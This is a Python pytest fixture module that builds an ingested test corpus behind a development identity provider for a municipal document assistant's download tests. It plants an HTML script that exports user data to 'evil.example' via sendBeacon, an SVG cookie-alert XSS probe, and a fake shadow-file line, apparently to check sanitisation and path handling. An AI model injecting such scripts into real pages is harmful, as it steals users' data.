"""For test_document_downloads: a real app behind the development identity provider, over a corpus really
ingested from files on disk."""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest
import yaml
from fastapi.testclient import TestClient

from assistant.api.app import create_app
from assistant.api.services import AppServices, build_services
from assistant.catalog import DocumentRow
from assistant.config import Settings, load_settings
from assistant.llm.fake import FakeChatModel
from assistant.runtime import Runtime
from ingestion.pipeline import Ingestor
from tests.fakes import HashingEmbeddings
from tests.fixtures.documents import write_png, write_text_pdf
from tests.support.dev_idp import DEFAULT_USERS_FILE, DevIdp, dev_idp_unavailable_reason, start_dev_idp

SCRIPTED_HTML = """<!doctype html><html lang="fr"><head><title>Délibération urbanisme</title></head><body>
<h1>Délibération sur le permis de construire</h1><p>Le conseil approuve le plan local d'urbanisme.</p>
<script>fetch("/api/me/export").then(r => r.text()).then(t => navigator.sendBeacon("//evil.example", t))</script>
</body></html>"""
SCRIPTED_SVG = """<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.cookie)</script>
<text x="0" y="20">Logo du service urbanisme de la commune</text></svg>"""
URBA = {  # file -> text; each test that changes a file has its own
    "plu/reglement.md": "# Règlement\n\nLe permis de construire est instruit en deux mois.\n",
    "swap.md": "# Échange\n\nLe certificat d'urbanisme est délivré en un mois.\n",
    "legacy/intact.md": "# Ancien\n\nLa déclaration préalable est instruite en un mois.\n",
    "legacy/lien.md": "# Ancien lien\n\nLe permis d'aménager est instruit en trois mois.\n",
    "legacy/change.md": "# Ancien change\n\nLe permis de démolir est instruit en deux mois.\n",
    "legacy/disparu.md": "# Ancien disparu\n\nL'affichage du permis dure deux mois.\n",
    "délibération.html": SCRIPTED_HTML,
    "logo.svg": SCRIPTED_SVG,
}
SECRET = "# Budget\n\nLe budget confidentiel du projet Phénix est de 12 millions d'euros.\n"
OUTSIDE = "root:$6$saltsalt$hashhashhash:19000:0:99999:7:::\n"


@dataclass
class Corpus:
    client: TestClient
    services: AppServices
    settings: Settings
    folder: Path
    outside: Path
    documents: dict[str, DocumentRow]  # by source name

    def id(self, source: str) -> str:
        return self.documents[source].id


def users_file(directory: Path) -> Path:
    """The development realm, with `admin` also an agent of urbanisme (to reach the agents' endpoints)."""
    realm = yaml.safe_load(DEFAULT_USERS_FILE.read_text(encoding="utf-8"))
    for user in realm["users"]:
        if user["username"] == "admin":
            user["roles"], user["groups"] = ["agent", "admin"], ["urbanisme"]
    path = directory / "users.yaml"
    path.write_text(yaml.safe_dump(realm, allow_unicode=True), encoding="utf-8")
    return path


def idp_with_admin_agent(tmp_path_factory: pytest.TempPathFactory) -> Iterator[DevIdp]:
    if dev_idp_unavailable_reason() is not None:
        pytest.skip(str(dev_idp_unavailable_reason()))
    server = start_dev_idp(users_file(tmp_path_factory.mktemp("realm")), access_token_ttl=600)
    yield server
    server.stop()


def sso_settings(idp: DevIdp, data: Path, **overrides: object) -> Settings:
    return load_settings(
        environ={"ASSISTANT_DATA_DIR": str(data)}, profile="development", chat={"min_similarity": 0.1},
        auth={"mode": "oidc", "oidc": {"server_url": idp.server_url, "realm": "demo", "client_id": "assistant",
                                       "client_secret": "assistant-dev-secret", "public_url": "http://testserver"}},
        **overrides,
    )


def write_corpus(root: Path) -> dict[str, Path]:
    urba, direction = root / "urba", root / "direction"
    for name, text in URBA.items():
        (urba / name).parent.mkdir(parents=True, exist_ok=True)
        (urba / name).write_text(text, encoding="utf-8")
    write_text_pdf(urba, [["Plan local d'urbanisme : sommaire."], ["Zone UA : hauteur maximale de 12 metres."]],
                   name="plu.pdf", title="Plan local d'urbanisme")
    write_png(urba)
    direction.mkdir()
    (direction / "budget.md").write_text(SECRET, encoding="utf-8")
    return {"urba": urba, "direction": direction}


def ingested_corpus(idp: DevIdp, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Corpus]:
    root = tmp_path_factory.mktemp("downloads")
    settings = sso_settings(idp, root / "data", rate_limits={"burst": 1000, "download_per_minute": 1000})
    embeddings, runtime = HashingEmbeddings(), Runtime(settings)
    services = build_services(runtime, model=FakeChatModel(lambda m: "Voir [1]."), embeddings=embeddings)
    folders = write_corpus(root / "files")
    ingestor = Ingestor(runtime.knowledge, embeddings, settings.ingestion)
    for collection, groups in (("urba", ["urbanisme"]), ("direction", ["direction-generale"])):
        report = ingestor.ingest([folders[collection]], collection, groups=groups)
        assert report.failures == [], [(f.path, f.reason) for f in report.failures]
    outside = root / "outside" / "shadow"
    outside.parent.mkdir()
    outside.write_text(OUTSIDE, encoding="utf-8")
    documents = {d.source_name: d for d in runtime.knowledge.catalog.documents()}
    with TestClient(create_app(settings, services=services)) as client:
        yield Corpus(client, services, settings, folders["urba"], outside, documents)
    runtime.close()
